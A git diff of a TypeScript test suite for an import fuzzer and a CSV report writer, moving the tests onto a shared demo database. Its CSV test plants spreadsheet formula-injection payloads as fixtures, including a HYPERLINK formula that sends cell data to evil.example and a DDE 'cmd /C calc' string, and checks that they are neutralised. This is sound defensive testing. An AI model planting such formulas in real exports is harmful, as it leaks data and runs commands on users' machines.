@@ -4,40 +4,34 @@
  * — and the report CSV writer neutralises every text cell that starts with = + - @ (formula injection).
  */
 import { loadDemoCity } from '../../src/services/demoCity.ts';
-import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { IsoDate } from '../../src/domain/date.ts';
-import { openDatabase, type Db } from '../support/floor/open.ts';
 import { csvCell, renderCsv } from '../../src/reports/csv.ts';
 import { computeReport } from '../../src/reports/generate.ts';
 import { makeApp, type TestApp } from '../api/helpers.ts';
 import { makeCase, runFuzz, seedFiles } from './fuzzer.ts';
-import { rng, tempDir } from './helpers.ts';
-import { onStore } from '../support/storeOn.ts';
+import { integrityOf, rng } from './helpers.ts';
+import { demoCityStore, type DemoStore } from '../support/demoStore.ts';
 
 const NOW = '2026-11-28T02:00:00.000Z';
 const SEED = 20261128;
 
 describe('fuzzed imports', () => {
-  const t = tempDir('huxin-fuzz-');
-  let db: Db;
+  // the demo city on the test's engine; the campaign is bounded by time (8 s), so PostgreSQL runs fewer cases in it
+  let demo: DemoStore;
   beforeAll(async () => {
-    db = openDatabase(join(t.dir, 'huxin.db'));
-    await onStore(db, (s) => loadDemoCity(s, NOW));
+    demo = await demoCityStore(NOW);
   });
-  afterAll(() => {
-    db.$client.close();
-    t.cleanup();
-  });
+  afterAll(() => demo.close());
 
   it('every mutated file is a clean rejection or a correct import, never a throw, a hang or a partial write', async () => {
-    const fig = await runFuzz(db, { seed: SEED, budgetMs: 8_000, maxCases: 2_000, caseLimitMs: 10_000, now: NOW });
+    const fig = await runFuzz(demo.store, { seed: SEED, budgetMs: 8_000, maxCases: 2_000, caseLimitMs: 10_000, now: NOW });
     expect(fig.failures).toEqual([]);
     expect(fig.threw).toBe(0);
     expect(fig.cases).toBeGreaterThan(60);
     expect(fig.rejected).toBeGreaterThan(0);
-    expect(db.$client.pragma('integrity_check', { simple: true })).toBe('ok');
+    expect(await integrityOf(demo.store.sql)).toBe('ok');
   }, 60_000);
 
   it('the mutations cover every kind of hostility named in the issue', () => {
@@ -52,7 +46,7 @@ describe('fuzzed imports through the API', () => {
   let app: TestApp;
   beforeAll(async () => {
     app = await makeApp({ seed: false, limits: { importsPerMinute: 100_000, failedAuthAttempts: 100_000 } });
-    await onStore(app.db, (s) => loadDemoCity(s, NOW));
+    await loadDemoCity(app.store, NOW);
   });
   afterAll(() => app.close());
 
@@ -83,10 +77,10 @@ describe('fuzzed imports through the API', () => {
         expect(body.error.details.problems.length).toBeGreaterThan(0);
         for (const p of body.error.details.problems) expect(Number.isInteger(p.line) && p.line >= 0).toBe(true);
       }
-      if (r.statusCode >= 400) expect(body.error.message).not.toMatch(/at .*\.ts:\d+|SqliteError|TypeError/);
+      if (r.statusCode >= 400) expect(body.error.message).not.toMatch(/at .*\.ts:\d+|SqliteError|DatabaseError|TypeError/);
     }
     expect((statuses[422] ?? 0) + (statuses[201] ?? 0)).toBeGreaterThan(20);
-    expect(app.db.$client.pragma('integrity_check', { simple: true })).toBe('ok');
+    expect(await integrityOf(app.store.sql)).toBe('ok');
   }, 60_000);
 });
 
@@ -109,17 +103,15 @@ describe('exported CSV neutralises formulas', () => {
   });
 
   it('a whole report rendered from data holding formulas has no live formula in any cell', async () => {
-    const t = tempDir('huxin-csv-');
-    const db = openDatabase(join(t.dir, 'huxin.db'));
+    const demo = await demoCityStore(NOW);
     try {
-      await onStore(db, (s) => loadDemoCity(s, NOW));
-      const s = db.$client;
-      s.prepare("UPDATE projects SET name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")' WHERE id = 1").run();
-      s.prepare("UPDATE projects SET name = '@SUM(1+1)*cmd|'' /C calc''!A0', county = '+信都区' WHERE id = 2").run();
-      s.prepare("UPDATE employers SET name = '-2+3' || name").run();
-      s.prepare("UPDATE roster_entries SET name = '=1+1' || name").run();
-      s.prepare("UPDATE payroll_rows SET name = '=1+1' || name").run();
-      const { report } = await onStore(db, (s) => computeReport(s, '2026-11-27' as IsoDate));
+      const s = demo.store.sql;
+      await s.run("UPDATE projects SET name = '=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")' WHERE id = 1");
+      await s.run("UPDATE projects SET name = '@SUM(1+1)*cmd|'' /C calc''!A0', county = '+信都区' WHERE id = 2");
+      await s.run("UPDATE employers SET name = '-2+3' || name");
+      await s.run("UPDATE roster_entries SET name = '=1+1' || name");
+      await s.run("UPDATE payroll_rows SET name = '=1+1' || name");
+      const { report } = await computeReport(demo.store, '2026-11-27' as IsoDate);
       const files = renderCsv(report);
       expect(files.length).toBeGreaterThan(2);
       let cells = 0;
@@ -138,8 +130,7 @@ describe('exported CSV neutralises formulas', () => {
       // the injected values are in the export (as text), so the check above really saw them
       expect(formulas).toBeGreaterThan(0);
     } finally {
-      db.$client.close();
-      t.cleanup();
+      await demo.close();
     }
   });
 });
